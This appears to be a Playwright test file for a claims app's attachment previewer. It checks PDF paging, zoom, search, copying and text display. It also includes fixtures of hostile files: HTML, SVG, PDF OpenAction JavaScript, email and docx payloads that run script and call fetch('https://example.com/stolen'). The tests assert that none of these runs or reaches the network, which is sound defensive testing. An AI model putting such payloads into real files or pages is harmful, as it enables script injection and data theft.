// Attached files in the real page: shown, searched, saved; and nothing in them runs, loads or gets out.

import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { after, before, test } from 'node:test';
import { docx, eml, pdf, png } from '../support/office_files.mjs';
import { onPage, startBrowser } from './support/page.mjs';

const axe = createRequire(import.meta.url).resolve('axe-core/axe.min.js');

/** @type {Awaited<ReturnType<typeof startBrowser>>} */
let browser;
before(async () => { browser = await startBrowser({ folder: 'dist' }); });
after(() => browser.close());

/** A new claim at the step of its proof, with these files. @param {import('playwright-core').Page} page @param {[string, Buffer | string][]} files */
async function attach(page, files) {
  await page.getByRole('button', { name: 'New claim' }).or(page.getByRole('link', { name: 'New claim' })).first().click();
  await page.getByRole('heading', { name: 'Who claims, and for which customer?' }).waitFor();
  await page.getByRole('textbox', { name: 'Customer name' }).fill('Contoso Retail Ltd.');
  await page.evaluate(() => { location.hash = location.hash.replace(/\/edit.*$/, '/edit/proof'); });
  await page.locator('input[type=file]').setInputFiles(files.map(([name, content]) => ({ name, mimeType: '', buffer: Buffer.from(content) })));
  for (const [name] of files) await page.getByRole('button', { name: `Preview ${name}` }).waitFor();
}

/** @param {import('playwright-core').Page} page @param {string} name */
async function open(page, name) {
  await page.getByRole('button', { name: `Preview ${name}` }).click();
  return page.getByRole('document', { name: `Preview of ${name}` });
}

const pages = ['Statement of Work\nCustomer: Contoso Retail Ltd.', 'Scope: Microsoft Teams\nSigned 14 September 2026', 'Annex: Contoso\nRetail Ltd. again'];

test('a PDF is read page by page, enlarged, and left by Escape', () => onPage(browser, {}, async (page) => {
  await attach(page, [['SOW.pdf', pdf(pages)]]);
  const shown = await open(page, 'SOW.pdf');
  await shown.getByText('Statement of Work').waitFor();
  await page.getByText(/^Page 1 of 3/).waitFor();
  await page.getByRole('button', { name: 'Next page' }).click();
  await page.getByText(/^Page 2 of 3/).waitFor();
  await shown.getByText('Scope: Microsoft Teams').waitFor();
  const width = () => shown.locator('canvas').first().evaluate((canvas) => canvas.clientWidth);
  const before = await width();
  await page.getByRole('button', { name: 'Zoom in' }).click();
  await page.waitForFunction((old) => (document.querySelector('.document canvas')?.clientWidth ?? 0) > old, before);
  await page.getByRole('button', { name: 'Fit width' }).click();
  await page.waitForFunction((old) => document.querySelector('.document canvas')?.clientWidth === old, before);
  await shown.press('End');
  await page.getByText(/^Page 3 of 3/).waitFor();
  await page.mouse.move(1, 1); // off the button: what it is called would be the first that Escape takes away
  await page.keyboard.press('Escape');
  await shown.waitFor({ state: 'detached' });
  assert.equal(await page.evaluate(() => document.activeElement?.getAttribute('aria-label')), 'Preview SOW.pdf');
}));

test('words are found over a line’s end, one place after another', () => onPage(browser, {}, async (page) => {
  await attach(page, [['SOW.pdf', pdf(pages)]]);
  const shown = await open(page, 'SOW.pdf');
  await shown.getByText('Statement of Work').waitFor();
  await page.getByRole('searchbox', { name: 'Search in the file' }).fill('contoso retail');
  await page.getByText('1 of 2', { exact: true }).waitFor();
  await page.getByRole('searchbox', { name: 'Search in the file' }).press('Enter');
  await page.getByText('2 of 2', { exact: true }).waitFor();
  await page.getByText(/^Page 3 of 3/).waitFor();
  await page.waitForFunction(() => [...(CSS.highlights.get('document-hit-now') ?? [])].map(String).join('').includes('Contoso'));
}));

test('what the file says of the claim leads to its place', () => onPage(browser, { context: { viewport: { width: 1440, height: 900 } } }, async (page) => {
  await attach(page, [['SOW.pdf', pdf(pages)]]);
  await open(page, 'SOW.pdf');
  await page.getByRole('listitem').filter({ hasText: /Customer: Contoso Retail Ltd\.\s*Found/ }).first().waitFor();
  await page.getByRole('button', { name: '“Contoso Retail Ltd.”, page 3' }).last().click();
  await page.getByText('2 of 2', { exact: true }).waitFor();
  await page.getByText(/^Page 3 of 3/).waitFor();
}));

test('text of a PDF can be selected and copied', () => onPage(browser, { context: { permissions: ['clipboard-read', 'clipboard-write'] } }, async (page) => {
  await attach(page, [['SOW.pdf', pdf(pages)]]);
  const shown = await open(page, 'SOW.pdf');
  await shown.getByText('Statement of Work').dblclick();
  await page.keyboard.press('Control+c');
  assert.match(await page.evaluate(() => navigator.clipboard.readText()), /^(Statement|of|Work)\s*$/);
}));

for (const [name, content, expected] of [
  ['note.txt', 'Zażółć gęślą jaźń\n客戶確認', '客戶確認'],
  ['use.csv', 'Product,Users\nTeams,1180', 'Teams,1180'],
  ['accepted.eml', eml('Odbiór', ['Wdrożono Exchange Online.']), 'Subject: Odbiór'],
  ['template.docx', docx(['Customer acknowledgement', 'Signed & sealed']), 'Signed & sealed'],
]) {
  test(`${name} is shown as text`, () => onPage(browser, {}, async (page) => {
    await attach(page, [[name, content]]);
    await (await open(page, name)).getByText(expected).waitFor();
  }));
}

test('a picture is shown as wide as it is, at most', () => onPage(browser, {}, async (page) => {
  await attach(page, [['photo.png', png(300, 200)]]);
  const image = (await open(page, 'photo.png')).locator('img');
  await image.waitFor();
  assert.deepEqual(await image.evaluate((element) => [element.clientWidth, element.clientHeight]), [300, 200]);
}));

test('what cannot be shown says so, and can be saved', () => onPage(browser, {}, async (page) => {
  await attach(page, [['old.doc', '\xd0\xcf\x11\xe0'], ['broken.pdf', '%PDF-1.7 nothing more']]);
  for (const name of ['old.doc', 'broken.pdf']) {
    await page.getByRole('button', { name: `Preview ${name}` }).click();
    await page.getByText('This file can’t be shown here; save it to open it elsewhere.').waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Save the file' }).last().click()]);
    assert.equal(download.suggestedFilename(), name);
    await page.keyboard.press('Escape');
    await page.getByRole('dialog', { name }).waitFor({ state: 'detached' });
  }
}));

const script = 'globalThis.pwned = 1; fetch("https://example.com/stolen"); parent.pwned = 1;';
/** Each would like to run or to load something. @type {[string, Buffer | string, string | RegExp][]} */
const hostile = [
  ['page.txt', `<!doctype html><html><body onload="${script}"><script>${script}</script><img src="https://example.com/a.png">HELLO`, 'HELLO'],
  ['drawing.png', `<svg xmlns="http://www.w3.org/2000/svg" onload='${script}'><script>${script}</script><image href="https://example.com/b.png"/></svg>`, /can’t be shown/],
  ['scripted.pdf', pdf(['HELLO'], {
    catalogue: `/OpenAction << /S /JavaScript /JS (${script.replaceAll(/[()\\]/g, '\\$&')}) >> /AA << /WC << /S /JavaScript /JS (app.launchURL\\("https://example.com"\\)) >> >>`,
    annotation: '/Annots [<< /Type /Annot /Subtype /Link /Rect [60 700 300 740] /A << /S /URI /URI (https://example.com/link) >> >>]',
  }), 'HELLO'],
  ['remote.eml', eml('HELLO', ['plain']), 'Subject: HELLO'],
  ['html-only.eml', `Subject: HELLO\r\nContent-Type: text/html\r\n\r\n<body onload="${script}"><img src="https://example.com/c.gif"><script>${script}</script><iframe src="https://example.com"></iframe>words`, 'words'],
  ['linked.docx', docx(['HELLO', `<script>${script}</script>`]), 'HELLO'],
];

for (const [name, content, seen] of hostile) {
  test(`nothing in ${name} runs, loads or leaves`, () => onPage(browser, {}, async (page) => {
    const foreign = [];
    const popups = [];
    await attach(page, [[name, content]]);
    page.context().on('request', (request) => { if (!request.url().startsWith(browser.url) && !request.url().startsWith('blob:')) foreign.push(request.url()); });
    page.context().on('page', (opened) => popups.push(opened.url()));
    page.on('dialog', (dialog) => popups.push(dialog.message()));
    await page.getByRole('button', { name: `Preview ${name}` }).click();
    await page.getByRole('dialog', { name }).getByText(seen).first().waitFor();
    if (name.endsWith('.pdf')) await page.getByRole('document', { name: /^Preview of/ }).click({ position: { x: 200, y: 120 } });
    await page.getByText(/to look at|no text can be read/).first().waitFor();
    assert.deepEqual(foreign, []);
    assert.deepEqual(popups, []);
    assert.equal(await page.evaluate(() => globalThis.pwned), undefined);
    assert.equal(await page.locator('.document :is(script, iframe, object, embed, a, svg, form, link, style)').count(), 0);
    assert.ok((await page.locator('.document img').evaluateAll((images) => images.map((image) => image.src))).every((source) => source.startsWith('blob:')));
  }));
}

test('a worker that reads PDFs has no way to the network or to what is kept', () => onPage(browser, {}, async (page) => {
  await page.getByRole('heading', { level: 1 }).waitFor();
  const [found] = await Promise.all([
    page.waitForEvent('worker', (worker) => worker.url().includes('pdf_worker')).then((worker) => worker.evaluate(() => ['fetch', 'XMLHttpRequest', 'WebSocket', 'indexedDB', 'caches', 'BroadcastChannel', 'Worker', 'importScripts'].filter((name) => globalThis[name] !== undefined).concat(navigator.storage ? ['storage'] : []))),
    attach(page, [['SOW.pdf', pdf(['x'])]]).then(() => page.getByRole('button', { name: 'Preview SOW.pdf' }).click()),
  ]);
  assert.deepEqual(found, []);
}));

test('a menu or message over a preview is seen: the preview gives way there', () => onPage(browser, { context: { viewport: { width: 1440, height: 900 } } }, async (page) => {
  await attach(page, [['SOW.pdf', pdf(pages)]]);
  const shown = await open(page, 'SOW.pdf');
  await shown.getByText('Statement of Work').waitFor();
  await page.getByRole('button', { name: 'Fit width' }).hover();
  await page.getByRole('tooltip').waitFor();
  await page.waitForFunction(() => /** @type {HTMLElement} */ (document.querySelector('.document')).style.clipPath.startsWith('path'));
}));

test('axe-core finds nothing in a preview', () => onPage(browser, { context: { bypassCSP: true, viewport: { width: 1440, height: 900 } } }, async (page) => {
  await attach(page, [['SOW.pdf', pdf(pages)]]);
  await (await open(page, 'SOW.pdf')).getByText('Statement of Work').waitFor();
  await page.addScriptTag({ path: axe });
  const violations = await page.evaluate(async () => (await globalThis.axe.run()).violations
    .map(({ id, nodes }) => `${id}: ${nodes.map((node) => node.html).join(' ')}`));
  assert.deepEqual(violations, []);
}));
